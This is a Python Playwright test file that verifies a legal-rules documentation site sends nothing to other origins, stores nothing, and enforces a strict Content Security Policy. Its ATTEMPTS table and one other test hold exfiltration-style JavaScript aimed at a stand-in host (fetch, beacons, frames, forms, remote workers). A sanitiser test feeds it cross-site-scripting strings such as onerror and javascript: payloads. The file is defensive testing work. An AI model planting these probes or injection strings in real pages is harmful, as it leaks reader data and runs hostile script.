"""Private by construction: whatever a reader does, nothing leaves the site's own origin, and the pages' policy holds it."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from macros.publishing.policy import inline_hashes
from macros.toolchain.places import SITE
from tests.web.acts import until

pytestmark = [pytest.mark.browser]
START = 120_000
DESCRIBED = "A vice mayor chaired a meeting and invited the county heads without the mayor's approval. Zanzibar."
KINDS = [
    "", "zh-Hans/", "en/", "2015-142/", "en/2015-142/art_7/", "zh-Hans/2015-142/apparatus/", "en/2015-142/status/",
    "glossary/", "en/method/", "editions/", "en/privacy/", "id/2015-142/art_7/", "ed/1.0/en/2015-142/art_7/",
]  # fmt: skip

BROWSERS_OWN = {"content-autofill.googleapis.com:443"}
"""Where Chromium itself asks what kinds of field a form has; it sends hashes of their names, never what is typed."""


class Watch:
    """All requests of one browser context: those that the browser tells of, and those to elsewhere at their way out.

    Every request to a host but this machine goes to the proxy, whoever made it: page, worker or service worker.
    """

    def __init__(self, context: BrowserContext, elsewhere: list[str]) -> None:
        self.elsewhere = elsewhere
        self.seen: list[tuple[str, str, str | None]] = []
        context.on("request", lambda one: self.seen.append((one.method, one.url, one.post_data)))


@dataclass
class Proxy:
    asked: list[str] = field(default_factory=list)
    address: str = ""


@pytest.fixture(scope="module")
def proxy() -> Iterator[Proxy]:
    held = Proxy()

    class Refusing(BaseHTTPRequestHandler):
        def note(self) -> None:
            if self.path not in BROWSERS_OWN:
                held.asked.append(self.path)
            self.send_error(502)

        do_GET = do_POST = do_CONNECT = do_HEAD = do_OPTIONS = note  # noqa: N815 -- as the base class asks

        def log_message(self, *_arguments: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Refusing) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        held.address = f"http://127.0.0.1:{server.server_port}"
        yield held
        server.shutdown()


@pytest.fixture
def watched(browser: Browser, proxy: Proxy) -> Iterator[tuple[BrowserContext, Watch]]:
    context = browser.new_context(
        proxy={"server": proxy.address, "bypass": "127.0.0.1"}, permissions=["clipboard-read", "clipboard-write"]
    )
    proxy.asked.clear()
    yield context, Watch(context, proxy.asked)
    context.close()


@pytest.fixture(scope="module")
def bare() -> Iterator[str]:
    """The site from a host that sends no headers of ours: the pages' own element is all there is."""

    class Bare(SimpleHTTPRequestHandler):
        def log_message(self, *_arguments: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Bare, directory=str(SITE))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def kept(page: Page) -> dict[str, list[str]]:
    """What the browser keeps for the site, by kind of storage."""
    found: dict[str, list[str]] = page.evaluate(
        """async () => ({
          local: Object.keys(localStorage), session: Object.keys(sessionStorage), cookies: document.cookie ? [document.cookie] : [],
          caches: await caches.keys(), databases: (await indexedDB.databases()).map((one) => one.name),
          workers: (await navigator.serviceWorker.getRegistrations()).map((one) => one.scope),
        })"""
    )
    return found


def search(page: Page, words: str) -> None:
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill(words)
    expect(page.locator(".search-results > li").first).to_be_visible()


def only_own(watch: Watch, site: str) -> None:
    strangers = [one for one in watch.seen if not one[1].startswith((site, "blob:", "data:"))]
    assert (watch.elsewhere, strangers) == ([], [])
    assert {(method, body) for method, _, body in watch.seen} == {("GET", None)}
    assert [url for _, url, _ in watch.seen if "zanzibar" in url.lower()] == []


def test_reading_asks_no_other_origin_and_keeps_nothing(site: str, watched: tuple[BrowserContext, Watch]) -> None:
    context, watch = watched
    page = context.new_page()
    for path in KINDS:
        page.goto(site + path, wait_until="networkidle")
    page.goto(site + "en/")
    search(page, "vice mayor")
    page.pdf()
    only_own(watch, site)
    assert len(watch.seen) > len(KINDS)
    assert not any(kept(page).values()), kept(page)
    assert context.cookies() == []


@pytest.mark.pyodide
def test_checking_sharing_and_printing_ask_no_other_origin(site: str, watched: tuple[BrowserContext, Watch]) -> None:
    context, watch = watched
    page = context.new_page()
    page.goto(site + "en/check/")
    page.locator("rule-checker[data-live] textarea").fill(DESCRIBED)
    page.locator("rule-checker input[inputmode]").fill("2016-03-01")
    page.locator(".rc-main").click()
    card = page.locator('.rc-card[data-article="7"]')
    expect(card).to_have_attribute("data-outcome", "violated", timeout=START)
    page.locator('input[name$="mayor_approved_before"][value="true"]').first.check()
    expect(card).to_have_attribute("data-outcome", "satisfied")
    for name in ("Copy link", "Copy as text", "Copy as Markdown"):
        page.get_by_role("button", name=name, exact=True).click()
    with page.expect_download():
        page.get_by_role("button", name="Download JSON").click()
    until(page, "location.hash.length > 10")
    page.evaluate("print()")
    page.pdf()
    page.goto(page.url.replace("/en/", "/zh-Hans/"))
    page.reload()
    expect(page.locator("textarea")).to_have_value(DESCRIBED)
    expect(card).to_have_attribute("data-outcome", "satisfied", timeout=START)
    only_own(watch, site)
    assert [*kept(page)["local"], *kept(page)["cookies"], *kept(page)["databases"]] == []
    assert context.cookies() == []


def test_the_colours_are_kept_once_chosen(site: str, watched: tuple[BrowserContext, Watch]) -> None:
    page = watched[0].new_page()
    page.emulate_media(color_scheme="light")
    page.goto(site)
    page.locator("label[for=__palette_1]").click()
    assert kept(page)["local"] == ["/.__palette"]
    page.goto(site + "en/")
    assert page.locator("body").get_attribute("data-md-color-scheme") == "slate"


ATTEMPTS = {
    "a request to another origin": "fetch('http://elsewhere.example/').then(() => 'sent', () => 'refused')",
    "a beacon": "Promise.resolve(navigator.sendBeacon('http://elsewhere.example/', 'x')).then(() => 'refused')",
    "a picture from another origin": "new Promise((say) => { const i = new Image(); i.onload = () => say('sent');"
    " i.onerror = () => say('refused'); i.src = 'http://elsewhere.example/a.png'; })",
    "a frame": "new Promise((say) => { const f = document.createElement('iframe'); f.src = 'http://elsewhere.example/';"
    " document.body.append(f); setTimeout(() => say('refused'), 200); })",
    "a form": "new Promise((say) => { const f = document.createElement('form'); f.action = 'http://elsewhere.example/';"
    " document.body.append(f); f.submit(); setTimeout(() => say('refused'), 200); })",
    "text as a script": "Promise.resolve().then(() => eval('\"sent\"')).catch(() => 'refused')",
    "a function from text": "Promise.resolve().then(() => new Function('return \"sent\"')()).catch(() => 'refused')",
    "an inline script": "new Promise((say) => { self.ran = () => say('sent'); const s = document.createElement('script');"
    " try { s.textContent = 'ran()'; document.body.append(s); } catch {} setTimeout(() => say('refused'), 100); })",
    "an inline handler": "new Promise((say) => { self.ran = () => say('sent'); const b = document.createElement('b');"
    " b.innerHTML = '<img src=x onerror=ran()>'; document.body.append(b); setTimeout(() => say('refused'), 100); })",
    "a worker from elsewhere": "Promise.resolve().then(() => new Worker('http://elsewhere.example/w.js'))"
    ".then(() => 'sent', () => 'refused')",
    "a script from elsewhere": "import('http://elsewhere.example/a.js').then(() => 'sent', () => 'refused')",
}


@pytest.mark.parametrize("host", ["with headers", "with the element alone"])
def test_what_the_policy_forbids_is_refused(
    site: str, bare: str, host: str, watched: tuple[BrowserContext, Watch]
) -> None:
    context, watch = watched
    page = context.new_page()
    page.goto((site if host == "with headers" else bare) + "en/check/")
    for attempt, script in ATTEMPTS.items():
        # from a timer, for what the debugger evaluates may itself evaluate text
        told = page.evaluate(f"() => new Promise((say) => setTimeout(() => {{ ({script}).then(say) }}))")
        assert told == "refused", attempt
    assert watch.elsewhere == []


def test_the_watch_sees_what_a_page_without_the_policy_sends(bare: str, watched: tuple[BrowserContext, Watch]) -> None:
    context, watch = watched
    page = context.new_page()
    page.goto(bare + "images/mark.svg")
    page.evaluate("fetch('http://elsewhere.example/told', {mode: 'no-cors'}).catch(() => 0)")
    assert watch.elsewhere == ["http://elsewhere.example/told"]


def test_the_guard_lets_through_plain_elements_and_nothing_else(site: str, page: Page) -> None:
    page.goto(site + "en/")
    through = page.evaluate(
        """(markups) => markups.map((one) => { const e = document.createElement("div"); e.innerHTML = one; return e.innerHTML; })"""
    , [
        '<mark data-md-highlight="">a</mark> &amp; <p class="x">b</p>',
        "<img src=x onerror=alert(1)>", "<svg><script>1</script></svg>", '<a href="javascript:1">x</a>', "<p onclick=alert(1)>x</p>",
        '<p class="a" onclick="x">', "<p class='a'>", "a < b > c", "<!-- <b> -->", "<iframe srcdoc='<b>'>", '<p class="<img src=x>">',
    ])  # fmt: skip
    assert through[0] == '<mark data-md-highlight="">a</mark> &amp; <p class="x">b</p>'
    assert page.locator("img[src=x]").count() == 0
    attributes = page.evaluate(
        """(markups) => markups.flatMap((one) => { const e = document.createElement("template"); e.innerHTML = one;
          return [...e.content.querySelectorAll("*")].flatMap((x) => [x.localName, ...x.getAttributeNames()]); })""",
        through,
    )
    assert set(attributes) <= {"mark", "p", "b", "data-md-highlight", "class"}


def test_every_page_allows_only_its_own_inline_scripts_and_neither_inline_nor_evaluated_text() -> None:
    pages = sorted(SITE.rglob("*.html"))
    assert len(pages) > 100
    for file in pages:
        html = file.read_text(encoding="utf-8")
        policy = html.partition('http-equiv="Content-Security-Policy" content="')[2].partition('"')[0]
        named = {word for word in re.findall(r"[^\s;]+", policy) if word.startswith("'sha256-")}
        assert named == inline_hashes(html), file
        assert "unsafe-inline" not in policy, file
        assert "'unsafe-eval'" not in policy, file
        assert " style=" not in html, file
